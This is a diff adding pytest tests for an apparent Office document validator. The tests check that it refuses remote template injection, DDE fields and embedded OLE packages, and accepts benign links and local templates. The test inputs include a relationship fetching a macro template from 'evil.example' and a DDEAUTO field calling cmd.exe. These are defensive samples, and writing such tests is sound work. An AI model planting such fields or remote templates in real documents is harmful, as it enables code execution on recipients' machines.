@@ -130,3 +130,53 @@ def test_a_document_type_among_the_content_types_is_refused() -> None:
 def test_xml_that_cannot_be_read_is_refused() -> None:
     assert "damaged" in refusal(package(body=b"\x00\x01 no xml"))
     assert "damaged" in refusal(package(body=b""))
+
+
+def relations(kind: str, target: str) -> bytes:
+    return (
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        f'<Relationship Id="r1" Type="http://x/relationships/{kind}" Target="{target}" '
+        'TargetMode="External"/></Relationships>'
+    ).encode()
+
+
+@pytest.mark.parametrize("kind", ["attachedTemplate", "oleObject", "frame", "subDocument"])
+def test_a_document_that_fetches_from_outside_is_refused(kind: str) -> None:
+    away = relations(kind, "HTTPS://evil.example/t.dotm")
+
+    assert "from the internet" in refusal(package({"word/_rels/settings.xml.rels": away}))
+
+
+def test_a_link_to_follow_and_a_template_on_an_own_drive_are_taken() -> None:
+    parts = {
+        "word/_rels/document.xml.rels": relations("hyperlink", "https://www.example.org/"),
+        "word/_rels/settings.xml.rels": relations("attachedTemplate", "file:///S:/county.dotx"),
+    }
+
+    assert archives.office_kind(io.BytesIO(package(parts))) == Kind.DOCX
+
+
+@pytest.mark.parametrize(
+    "xml",
+    [
+        "<w:p><w:instrText xml:space='preserve'> DDEAUTO c:\\\\cmd.exe</w:instrText></w:p>",
+        "<w:p><w:fldSimple w:instr=' dde excel'/></w:p>",
+        "<externalLink><ddeLink ddeService='cmd'/></externalLink>",
+    ],
+)
+def test_a_document_that_asks_another_program_is_refused(xml: str) -> None:
+    around = f"<x>{'a' * 65_000}{xml}</x>"
+
+    assert "another program" in refusal(package({"word/document.xml": around.encode()}))
+
+
+def test_a_document_that_speaks_of_such_a_link_is_taken() -> None:
+    words = b"<w:p><w:instrText>PAGE</w:instrText><w:t>DDEAUTO is a field of Word</w:t></w:p>"
+
+    assert archives.office_kind(io.BytesIO(package({"word/document.xml": words}))) == Kind.DOCX
+
+
+def test_a_file_dressed_as_an_object_is_refused() -> None:
+    ole = b"\xd0\xcf\x11\xe0" + bytes(65_530) + "\x01Ole10Native".encode("utf-16-le")
+
+    assert "another file inside" in refusal(package({"word/embeddings/oleObject1.bin": ole}))
